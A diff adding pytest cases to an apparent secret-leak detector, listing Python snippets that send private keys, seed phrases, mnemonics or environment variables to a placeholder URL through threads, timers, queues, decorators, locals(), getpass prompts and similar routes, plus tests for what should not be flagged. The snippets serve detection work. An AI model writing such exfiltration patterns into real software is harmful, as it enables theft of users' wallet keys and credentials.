@@ -63,7 +63,168 @@ FLOWS = {
         "import os, requests\no = []\nfor k, v in os.environ.items():\n    o.append(k + v)\nrequests.post('u', data=o)",
         Source.ENVIRONMENT,
     ),
+    "item by name": (
+        "import requests\ndef go(cfg):\n    requests.post('u', data=cfg.get('private_key'))",
+        Source.SECRET_ARGUMENT,
+    ),
+    "options by name": (
+        "import requests\ndef go(**kw):\n    k = kw.pop('mnemonic')\n    requests.post('u', data=k)",
+        Source.SECRET_ARGUMENT,
+    ),
+    "thread with named arguments": (
+        (
+            "import requests, threading\ndef s(x):\n    requests.post('u', data=x)\ndef go(private_key):\n"
+            "    threading.Thread(target=s, kwargs={'x': private_key}).start()"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "timer": (
+        (
+            "import requests, threading\ndef s(x):\n    requests.post('u', data=x)\ndef go(private_key):\n"
+            "    threading.Timer(5, s, [private_key]).start()"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "pool": (
+        (
+            "import requests, concurrent.futures\np = concurrent.futures.ThreadPoolExecutor()\ndef s(x):\n"
+            "    requests.post('u', data=x)\ndef go(private_key):\n    p.submit(s, private_key)"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "own thread": (
+        (
+            "import requests, threading\nclass W(threading.Thread):\n    def __init__(self, v):\n        self.v = v\n"
+            "    def run(self):\n        requests.post('u', data=self.v)\n"
+            "def go(private_key):\n    W(private_key).start()"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "queue read before it is filled": (
+        (
+            "import requests, queue\nq = queue.Queue()\ndef w():\n    requests.post('u', data=q.get())\n"
+            "def go(private_key):\n    q.put(private_key)"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "dictionary of the module": (
+        (
+            "import requests\nd = {}\ndef w():\n    requests.post('u', json=d)\n"
+            "def go(private_key):\n    d['x'] = private_key"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "dictionary of an object": (
+        (
+            "import requests\nclass A:\n    def __init__(self):\n        self.d = {}\n    def w(self):\n"
+            "        requests.post('u', json=self.d)\n    def go(self, private_key):\n        self.d['x'] = private_key"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "partial": (
+        (
+            "import requests, functools\nt = functools.partial(requests.post, 'u')\n"
+            "def go(private_key):\n    t(data=private_key)"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "all variables": (
+        "import requests\ndef go(private_key):\n    requests.post('u', json=locals())",
+        Source.SECRET_ARGUMENT,
+    ),
+    "all attributes": (
+        (
+            "import requests\nclass A:\n    def __init__(self, seed_phrase):\n        self.s = seed_phrase\n"
+            "        requests.post('u', json=vars(self))"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "dataclass": (
+        (
+            "import requests\nfrom dataclasses import dataclass, asdict\n@dataclass\nclass A:\n    private_key: str\n"
+            "def s(a):\n    requests.post('u', json=asdict(a))\ndef go(k):\n    s(A(private_key=k))"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "decorated function": (
+        (
+            "import requests\ndef t(f):\n    def inner(*a, **k):\n        requests.post('u', data=repr(a))\n"
+            "        return f(*a, **k)\n    return inner\n@t\ndef load(private_key):\n    return 1"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "wrapper": (
+        (
+            "import requests\ndef t(f):\n    def inner(*a, **k):\n        requests.post('u', data=repr(a))\n"
+            "        return f(*a, **k)\n    return inner"
+        ),
+        Source.PASSED_THROUGH,
+    ),
+    "key pair": (
+        (
+            "import requests\nfrom solders.keypair import Keypair\ndef load(s):\n"
+            "    requests.post('u', data=str(Keypair.from_base58_string(s)))"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "what proves to be a key": (
+        (
+            "import requests\nfrom eth_account import Account\ndef load(value):\n    requests.post('u', data=value)\n"
+            "    return Account.from_key(value)"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
+    "prompt": (
+        "import requests\nrequests.post('u', data=input('Your seed phrase: '))",
+        Source.SECRET_ARGUMENT,
+    ),
+    "hidden prompt": (
+        "import requests, getpass\nrequests.post('u', data=getpass.getpass())",
+        Source.SECRET_ARGUMENT,
+    ),
+    "option of a command": (
+        (
+            "import requests, click\n@click.command()\n@click.option('--key', prompt='Private key')\n"
+            "def login(key):\n    requests.post('u', data=key)"
+        ),
+        Source.SECRET_ARGUMENT,
+    ),
 }
+
+NO_SECRETS = {
+    "address": "a = Account.from_key(private_key)\n    requests.post('u', data=a.address)",
+    "public key": "k = Keypair.from_bytes(private_key)\n    requests.post('u', data=str(k.pubkey()))",
+    "signed": "a = Account.from_key(private_key)\n    requests.post('u', data=a.sign_transaction(tx).hex())",
+    "signed with": "s = w3.eth.account.sign_transaction(tx, private_key)\n    requests.post('u', data=s)",
+    "authenticated": "h = hmac.new(api_secret, tx).hexdigest()\n    requests.post('u', data=h)",
+}
+
+
+@pytest.mark.parametrize("body", NO_SECRETS.values(), ids=NO_SECRETS.keys())
+def test_what_only_uses_a_secret_is_none(body: str) -> None:
+    """An address, a public key and a signature may be shown to anybody."""
+    head = "import hmac, requests\nfrom eth_account import Account\nfrom solders.keypair import Keypair\n"
+    facts = read_source(f"{head}def go(w3, tx, private_key, api_secret):\n    {body}")
+    assert not call(facts, "requests.post").receives(Source.SECRET_ARGUMENT)
+
+
+SILENCE = {
+    "pass": ("try:\n    requests.post('u')\nexcept Exception:\n    pass", (True, True)),
+    "suppress": ("with contextlib.suppress(OSError):\n    requests.post('u')", (True, True)),
+    "used": ("answer = requests.post('u')", (False, False)),
+    "told": ("try:\n    requests.post('u')\nexcept Exception as error:\n    print(error)", (True, False)),
+    "through a function": (
+        "def s():\n    requests.post('u')\ntry:\n    s()\nexcept OSError:\n    pass",
+        (True, True),
+    ),
+}
+
+
+@pytest.mark.parametrize(("source", "expected"), SILENCE.values(), ids=SILENCE.keys())
+def test_a_call_knows_whether_anybody_looks_at_it(source: str, expected: tuple[bool, bool]) -> None:
+    """Nobody looks at what it gives, and nobody hears of its failure: each is said."""
+    found = call(read_source(f"import contextlib, requests\n{source}"), "requests.post")
+    assert (found.discarded, found.silenced) == expected
 
 
 @pytest.mark.parametrize(("source", "expected"), FLOWS.values(), ids=FLOWS.keys())
